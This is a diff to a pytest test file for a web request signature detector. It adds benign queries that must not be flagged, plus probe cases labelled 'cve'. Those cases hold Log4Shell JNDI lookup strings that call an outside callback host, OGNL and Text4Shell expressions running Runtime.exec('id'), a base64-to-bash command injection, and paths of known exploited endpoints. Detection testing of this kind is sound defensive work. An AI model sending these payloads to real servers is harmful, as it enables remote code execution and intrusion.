@@ -6,7 +6,7 @@ from importlib import resources
 import pytest
 
 from node.signatures import probes
-from node.signatures.probes import PROBE_KINDS, has_traversal, probe_kind
+from node.signatures.probes import PROBE_KINDS, has_traversal, payload_kind, probe_kind
 
 # Ordinary API and browsing traffic: a false positive here blocks a customer.
 BENIGN = [
@@ -80,12 +80,26 @@ BENIGN = [
     ("/app/login", ""),
     ("/users/new", ""),
     ("/api/v2/ping", ""),
+    ("/api/search", "q=java.lang.Runtime+exec"),        # a developer's search, no OGNL syntax
+    ("/api/docs", "q=%24%7Bversion%7D+placeholder"),   # ${version}: not a lookup we know
+    ("/api/templates", "body=Hello+%24%7Bname%7D"),
 ]
 
 
 @pytest.mark.parametrize(("path", "query"), BENIGN)
 def test_benign_is_none(path, query):
     assert probe_kind(path, query) is None
+
+
+@pytest.mark.parametrize(("referer", "kind"), [
+    ("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.binaryedge.io:80/callback}", "cve"),
+    ("https://shop.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "cve"),
+    ("https://shop.example/search?f=%7B%22color%22%3A%22red%22%7D", None),   # JSON in a URL
+    ("https://www.google.com/search?q=select+shoes+from+catalogue", None),
+    ("https://shop.example/a/../b", None),          # one relative climb: ordinary
+])
+def test_payload_kind_of_a_referer(referer, kind):
+    assert payload_kind(referer) == kind
 
 
 PROBES = [
@@ -197,6 +211,20 @@ PROBES = [
     ("/foo", "url=javascript:alert(document.cookie)", "xss"),
     ("/foo", "a=%3Cp", "xss"),
     ("/search/<script>alert(1)</script>", "", "xss"),
+    # expression-language / Java code execution payloads
+    ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
+     "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", "",
+     "cve"),
+    ("/", "search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec('id')%7D",
+     "cve"),
+    ("/", "search=%24%7Bdns%3Aaddress%7Cexample.com%7D", "cve"),
+    ("/index.php", "login=$(echo${IFS}aWQ=|base64${IFS}-d|bash)", "cve"),
+    ("/struts/a.action", "redirect:%25%7B%28%23_memberAccess%3D1%29%7D", "cve"),
+    # known exploited endpoints
+    ("/setup/setupadministrator.action", "", "cve"),
+    ("/vendor/htmlawed/htmlawed/htmLawedTest.php", "", "cve"),
+    ("/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "", "cve"),
+    ("/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", "", "cve"),
 ]
 
 
